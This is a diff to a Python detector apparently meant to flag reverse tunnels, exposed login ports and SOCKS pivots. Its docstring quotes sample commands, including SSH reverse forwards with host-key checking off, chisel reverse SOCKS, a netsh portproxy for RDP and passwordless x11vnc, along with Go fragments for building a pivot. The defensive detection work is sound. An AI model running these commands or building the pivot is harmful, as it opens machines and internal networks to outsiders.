@@ -7,10 +7,18 @@ What it catches
     -N -R 0.0.0.0:2222:127.0.0.1:22 relay@203.0.113.9`, `autossh -M 0 -R`, `plink.exe -R
     0.0.0.0:3389:127.0.0.1:3389`, `chisel client HOST R:2222:127.0.0.1:22`, whose reverse
     remotes listen on every address), or that port handed to a public tunnel (`ngrok tcp
-    22`). A reverse SOCKS proxy, which opens the whole network behind the machine to the far
+    22`); also on any address (the far host's loopback too) of a public host named only by
+    its number whose key is left unchecked (`ssh -fN -o StrictHostKeyChecking=no -R
+    2222:localhost:22 tunnel@203.0.113.45`): a relay nobody vouches for. A reverse SOCKS proxy,
+    which opens the whole network behind the machine to the far
     host: chisel's reverse `R:socks` remote, SSH's reverse dynamic forward (`ssh -R 1080
     relay`), revsocks. As an agent action this is refused outright; in a response it is one
-    piece, weighed with the request. Code that builds the pivot itself is whole in a response
+    piece, weighed with the request. Windows relaying a login port of another machine of its
+    network from every address of its own (`netsh interface portproxy add v4tov4
+    listenaddress=0.0.0.0 connectport=3389 connectaddress=10.10.5.20`). The same door without
+    a tunnel: the live desktop served
+    over VNC to every address with no password (`x11vnc -display :0 -forever -nopw`,
+    TigerVNC's `-SecurityTypes None`). Code that builds the pivot itself is whole in a response
     too: a connection dialed out (through egress that lets HTTPS go) whose stream multiplexer
     it serves as the server side, each stream the far end opens answered as a SOCKS request
     into the network (`conn, _ := tls.Dial(...)`, `sess, _ := yamux.Server(conn, nil)`, `go
@@ -29,17 +37,28 @@ Allowed instead
     a development web server through a reverse forward or tunnel (`ssh -R 8080:localhost:3000
     demo@tunnel.example.com`, `ngrok http 3000`), a jump host (`ssh -J bastion app01`), a
     reverse forward of one's own SSH to one's own server's loopback (`autossh -R
-    localhost:2222:localhost:22 me@vps.example.net`, reachable only by who logs in there), a
+    localhost:2222:localhost:22 me@vps.example.net`, reachable only by who logs in there; its
+    key known or accepted once, `StrictHostKeyChecking=accept-new`), a
     SOCKS proxy of one's own to reach a network through a bastion (`ssh -D 1080 bastion`,
     chisel's forward `1080:socks`), a development tunnel client that dials out and serves its
-    own local web app over the multiplexer.
+    own local web app over the multiplexer, a VNC server bound to loopback for an SSH tunnel
+    (`x11vnc -localhost -nopw`) or asking for its password (`-rfbauth`), a port proxy to a
+    WSL or Hyper-V guest (172.16/12) or to a web port.
 """
 
 from __future__ import annotations
 
+import re
+
 from redline.redlines.capabilities import Capabilities
 from redline.redlines.capabilities import Capability as Cap
-from redline.redlines.registry import Detection, detector, one_piece
+from redline.redlines.registry import (
+    Detection,
+    action_or_part,
+    detector,
+    one_piece,
+    supported,
+)
 
 
 @detector("ACT-REVERSE-TUNNEL", redline="RL-PERSISTENCE")
@@ -49,6 +68,15 @@ def reverse_tunnel(found: Capabilities) -> Detection | None:
     built = found.first(Cap.PIVOT_BUILT)
     if built is not None:
         return Detection(0.8, (built,), "a SOCKS proxy served over a connection dialed out")
+    exposed = found.hits.get(Cap.LOGIN_PORT_EXPOSED, ())
+    if exposed and all(_VNC_SERVER.match(hit.text) for hit in exposed):
+        # No tunnel: the desktop's own VNC server, open to every address with no password.
+        reason = "serves the live desktop over VNC to any address, with no password"
+        return supported(found, action_or_part(found, 0.85), (Cap.LOGIN_PORT_EXPOSED,), reason)
     return one_piece(found, Cap.LOGIN_PORT_EXPOSED, 0.85) or one_piece(
         found, Cap.PROXY_INTO_NETWORK, 0.85
     )
+
+
+_VNC_SERVER = re.compile(r"(?:x11vnc|x0vncserver|vncserver|Xvnc)\b", re.I)
+"""A VNC server's own command line (`LOGIN_PORT_EXPOSED` without any tunnel)."""
